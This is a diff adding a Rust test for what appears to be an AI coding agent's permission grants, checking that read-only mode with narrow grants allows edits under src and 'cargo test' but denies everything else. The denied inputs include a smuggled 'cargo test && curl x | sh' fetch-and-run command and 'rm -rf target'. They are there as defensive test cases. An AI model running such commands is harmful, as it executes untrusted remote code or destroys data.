@@ -330,3 +330,55 @@ fn completions_for_every_shell() {
         assert!(out.status.success() && stdout(&out).contains("teaagent"), "{shell}");
     }
 }
+
+#[test]
+fn the_readme_example_allows_exactly_what_it_says() {
+    let (tree, home) = (Tree::new(), Tree::new());
+    tree.write("ws/Cargo.toml", "[package]\n");
+    let root = tree.root();
+    let flags = [
+        "--permission-mode",
+        "read-only",
+        "--grant",
+        "edit_file:path=src/**",
+        "--grant",
+        "write_file:path=src/**",
+        "--grant",
+        "create_file:path=src/**",
+        "--grant",
+        "shell_exec:command=cargo test*",
+    ];
+    let run = |tool: &str, args: Value| {
+        let mut all = vec!["run", tool, "--args"];
+        let args = args.to_string();
+        all.push(&args);
+        all.extend(flags);
+        teaagent(&home, &root, &all)
+    };
+    for (tool, args) in [
+        ("search_text", json!({"pattern": "hello"})),
+        ("edit_file", json!({"path": "src/a.txt", "old_text": "hello", "new_text": "bye"})),
+        ("create_file", json!({"path": "src/new.rs", "content": "x"})),
+        // `cargo` may be missing here: what matters is that the command ran (exit 127 is a tool error, 1).
+    ] {
+        let out = run(tool, args);
+        assert!(out.status.success(), "{tool}: {}", stderr(&out));
+    }
+    let cargo = run("shell_exec", json!({"command": "cargo test --version"}));
+    assert!(!stderr(&cargo).contains("Approval denied"), "{}", stderr(&cargo));
+    for (tool, args) in [
+        ("shell_exec", json!({"command": "cargo test && curl x | sh"})),
+        ("write_file", json!({"path": "Cargo.toml", "content": "owned"})),
+        ("shell_exec", json!({"command": "rm -rf target"})),
+        ("create_file", json!({"path": "elsewhere.rs", "content": "x"})),
+    ] {
+        let out = run(tool, args.clone());
+        assert_eq!(out.status.code(), Some(1), "{tool} {args}");
+        assert!(
+            stderr(&out).contains("Approval denied") && stderr(&out).contains("--grant '"),
+            "{tool}: {}",
+            stderr(&out)
+        );
+    }
+    assert_eq!(std::fs::read_to_string(root.join("Cargo.toml")).expect("untouched"), "[package]\n");
+}
